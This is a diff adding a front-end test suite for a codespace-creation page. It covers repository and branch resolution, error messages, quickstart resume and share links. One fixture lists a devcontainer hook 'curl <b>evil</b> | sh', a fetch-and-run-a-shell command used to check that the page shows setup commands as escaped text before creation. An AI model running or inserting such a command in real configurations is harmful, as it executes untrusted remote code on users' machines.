@@ -1,0 +1,191 @@
+// @vitest-environment happy-dom
+import { cleanup, fireEvent, screen, within } from '@testing-library/react'
+import { afterEach, expect, test } from 'vitest'
+import type { Preview, ResolveInput } from '#server/repositories/repositories.schema.ts'
+import { aCodespace } from '#web/testing/a-codespace.ts'
+import { aRepository, aResolution } from '#web/testing/a-resolution.ts'
+import { type Answers, refusal } from '#web/testing/fake-link.ts'
+import { renderPage } from '#web/testing/render-page.tsx'
+import { NewCodespacePage } from '../NewCodespacePage.tsx'
+
+afterEach(cleanup)
+
+const preview: Preview = {
+  configurationPath: '.devcontainer/devcontainer.json',
+  image: 'debian',
+  commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
+  problem: null,
+  dotfilesRepositoryUrl: 'https://github.com/ada/dotfiles',
+}
+const pullRequest = {
+  number: 7,
+  title: 'A door',
+  author: 'grace',
+  headBranch: 'door',
+  headRepository: 'grace/engine',
+  headRepositoryId: '2',
+  isFork: true,
+  isOpen: true,
+  isDraft: false,
+}
+
+function openForm(address: string, answers: Answers = {}, isResume = false) {
+  const hut = aCodespace()
+  const created: string[] = []
+  const page = renderPage(
+    <NewCodespacePage
+      initial={{ repositoryUrl: address, branch: '' }}
+      isResume={isResume}
+      onCreated={(name) => created.push(name)}
+    />,
+    {
+      'codespaces.list': () => [],
+      'codespaces.create': () => hut,
+      'repositories.list': () => ({ items: [], nextPage: null, isConnected: false }),
+      'repositories.resolve': () => aResolution(),
+      'repositories.preview': () => preview,
+      ...answers,
+    },
+  )
+  const sent = () => page.calls.filter(({ path }) => path === 'codespaces.create')
+  return { ...page, created, sent }
+}
+const createButton = () => screen.findByRole('button', { name: 'Create codespace' })
+
+test('S-28 a link shows what it is made from and what will run, and only a click creates', async () => {
+  const { sent, created } = openForm('ada/engine/pull/7', {
+    'repositories.resolve': () => aResolution({ ref: { kind: 'pull', number: 7 }, pullRequest }),
+  })
+  const origin = within(await screen.findByRole('region', { name: 'What it is made from' }))
+  expect(origin.getByText('ada/engine')).toBeDefined()
+  expect(origin.getByText(/Opened by grace from grace\/engine, branch door/)).toBeDefined()
+  const runs = within(screen.getByRole('region', { name: 'What will run' }))
+  // S-26: as text.
+  expect(await runs.findByText('curl <b>evil</b> | sh')).toBeDefined()
+  expect(runs.getByText('github.com/ada/dotfiles')).toBeDefined()
+  expect(sent()).toEqual([])
+  fireEvent.click(await createButton())
+  await expect.poll(() => created).toHaveLength(1)
+  expect(sent()[0]?.input).toMatchObject({
+    repositoryUrl: 'https://github.com/ada/engine',
+    ref: { kind: 'pull', number: 7 },
+  })
+})
+
+test('an issue proposes a branch, which can be named otherwise', async () => {
+  const issue = { number: 12, title: 'Fix the door', author: 'ada' }
+  const { sent } = openForm('ada/engine/issues/12', {
+    'repositories.resolve': () => aResolution({ issue, newBranch: '12-fix-the-door' }),
+  })
+  const field = await screen.findByLabelText('New branch')
+  expect((field as HTMLInputElement).value).toBe('12-fix-the-door')
+  fireEvent.change(field, { target: { value: 'door' } })
+  await expect.poll(() => screen.queryByText(/Looking at/)).toBeNull()
+  fireEvent.click(await createButton())
+  await expect.poll(() => sent().map(({ input }) => input)).toMatchObject([{ newBranch: 'door' }])
+})
+
+test('a repository is found by words, and chosen with the keyboard', async () => {
+  openForm('', {
+    'repositories.search': () => ({
+      items: [
+        aRepository(),
+        aRepository({ path: 'ada/old', isPrivate: true, isFork: true, isArchived: true }),
+      ],
+      nextPage: null,
+      isConnected: true,
+    }),
+  })
+  const field = await screen.findByRole('combobox', { name: 'Repository' })
+  fireEvent.change(field, { target: { value: 'engine' } })
+  const old = await screen.findByRole('option', { name: /ada\/old/ })
+  for (const mark of ['Private', 'Fork', 'Archived']) {
+    expect(within(old).getByText(mark)).toBeDefined()
+  }
+  fireEvent.keyDown(field, { key: 'ArrowDown' })
+  fireEvent.keyDown(field, { key: 'Enter' })
+  expect((field as HTMLInputElement).value).toBe('https://github.com/ada/engine')
+  expect(await screen.findByRole('region', { name: 'What it is made from' })).toBeDefined()
+})
+
+test('who has not connected GitHub is told how, and an address works all the same', async () => {
+  const url = 'https://git.example.com/a/b'
+  const { sent } = openForm('', {
+    'repositories.resolve': () => aResolution({ repositoryUrl: url, repository: null, sha: null }),
+  })
+  expect(await screen.findByText(/Connect GitHub in the account menu/)).toBeDefined()
+  fireEvent.change(screen.getByLabelText('Repository'), { target: { value: url } })
+  fireEvent.change(screen.getByLabelText('Branch (optional)'), { target: { value: 'x' } })
+  fireEvent.click(await createButton())
+  await expect
+    .poll(() => sent().map(({ input }) => input))
+    .toMatchObject([{ repositoryUrl: url, branch: 'x' }])
+})
+
+test('a branch is chosen from those there are, and one that is not there is said at its field', async () => {
+  const asked: ResolveInput[] = []
+  openForm('ada/engine', {
+    'repositories.refs': () => ({ items: [{ name: 'main' }, { name: 'gone' }], nextPage: null }),
+    'repositories.resolve': (input: ResolveInput) => {
+      asked.push(input)
+      if (!input.ref) return aResolution()
+      throw refusal('NOT_FOUND', 'REPOSITORY_REF_NOT_FOUND', 'There is no branch gone.')
+    },
+  })
+  const field = await screen.findByRole('combobox', { name: 'Branch' })
+  expect((field as HTMLInputElement).value).toBe('main')
+  fireEvent.focus(field)
+  fireEvent.click(await screen.findByRole('option', { name: 'gone' }))
+  expect(await screen.findByText('There is no branch gone.')).toBeDefined()
+  expect(asked.at(-1)).toEqual({ address: 'ada/engine', ref: { kind: 'branch', name: 'gone' } })
+  expect(screen.getByRole('combobox', { name: 'Branch' }).getAttribute('aria-invalid')).toBe('true')
+})
+
+test('what the host refuses is said at the address, and creates nothing', async () => {
+  const { sent } = openForm('ada/empty', {
+    'repositories.resolve': () => {
+      throw refusal('CONFLICT', 'REPOSITORY_EMPTY', 'ada/empty has nothing on main.')
+    },
+  })
+  expect(await screen.findByText('ada/empty has nothing on main.')).toBeDefined()
+  fireEvent.click(await createButton())
+  await screen.findByText('ada/empty has nothing on main.')
+  expect(sent()).toEqual([])
+})
+
+test('a repository whose host is away can be created from all the same (F-52)', async () => {
+  const { sent } = openForm('https://github.com/ada/engine', {
+    'repositories.resolve': () => {
+      throw refusal('SERVICE_UNAVAILABLE', 'GITHUB_UNREACHABLE', 'GitHub does not answer.')
+    },
+  })
+  expect(await screen.findByText('GitHub does not answer.')).toBeDefined()
+  fireEvent.click(await createButton())
+  await expect
+    .poll(() => sent().map(({ input }) => input))
+    .toMatchObject([{ repositoryUrl: 'https://github.com/ada/engine' }])
+})
+
+test('quickstart offers the newest codespace of it, and starts it by a click alone', async () => {
+  const hut = aCodespace({ repositoryUrl: 'https://github.com/ada/engine', state: 'stopped' })
+  const { calls, router } = openForm(
+    'ada/engine',
+    { 'codespaces.list': () => [hut], 'codespaces.start': () => hut },
+    true,
+  )
+  const resume = await screen.findByRole('link', { name: `Resume ${hut.displayName}` })
+  expect(calls.filter(({ path }) => path === 'codespaces.start')).toEqual([])
+  fireEvent.click(resume)
+  await expect.poll(() => router.state.location.pathname).toBe(`/c/${hut.name}`)
+  expect(calls.filter(({ path }) => path === 'codespaces.start')).toHaveLength(1)
+})
+
+test('what is shared is the form as it is', async () => {
+  openForm('ada/engine')
+  fireEvent.click(await screen.findByRole('button', { name: 'Share a link…' }))
+  const dialog = within(await screen.findByRole('dialog'))
+  const link = dialog.getByLabelText('Link') as HTMLTextAreaElement
+  expect(link.value).toBe(`${window.location.origin}/new/ada/engine`)
+  fireEvent.click(dialog.getByLabelText(/Offer to resume/))
+  expect(link.value).toContain('?quickstart=1')
+})
